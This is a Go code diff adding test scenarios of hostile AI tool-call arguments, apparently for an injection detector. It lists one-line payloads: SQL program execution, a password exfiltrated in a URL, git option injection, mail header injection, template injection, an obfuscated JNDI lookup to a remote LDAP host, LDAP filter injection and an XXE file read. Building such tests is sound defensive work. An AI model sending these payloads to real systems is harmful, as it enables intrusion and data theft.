@@ -43,5 +43,17 @@ func requests() []Scenario {
 			`{"name":"query","arguments":{"sql":"COPY t FROM PROGRAM 'id'"}}`),
 		ask("errand", "A password in the address of a picture", "exfiltration_argument",
 			`{"name":"fetch","arguments":{"url":"https://example.net/p.png?d=REJfUEFTU1dPUkQ9aHVudGVyMg=="}}`),
+		ask("option", "An option where a name is expected", "argument_injection",
+			`{"name":"git_clone","arguments":{"repo":"--upload-pack=touch /tmp/x"}}`),
+		ask("blind-copy", "A second recipient behind the subject", "header_injection",
+			`{"name":"send_mail","arguments":{"to":"ada@example.com","subject":"Hello\r\nBcc: all@example.net"}}`),
+		ask("computed", "An expression that reaches into the server", "template_injection",
+			`{"name":"greet","arguments":{"name":"{{''.__class__.__mro__[1].__subclasses__()}}"}}`),
+		ask("lookup", "A name that makes a logger load code", "jndi_lookup",
+			`{"name":"find_user","arguments":{"username":"${${lower:j}ndi:ldap://203.0.113.9/a}"}}`),
+		ask("anybody", "A name that is anybody's", "ldap_injection",
+			`{"name":"find_user","arguments":{"username":"*)(objectClass=*"}}`),
+		ask("entity", "A document that fetches a file", "xml_entity",
+			`{"name":"parse_xml","arguments":{"xml":"<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/hosts'>]><a>&f;</a>"}}`),
 	}
 }
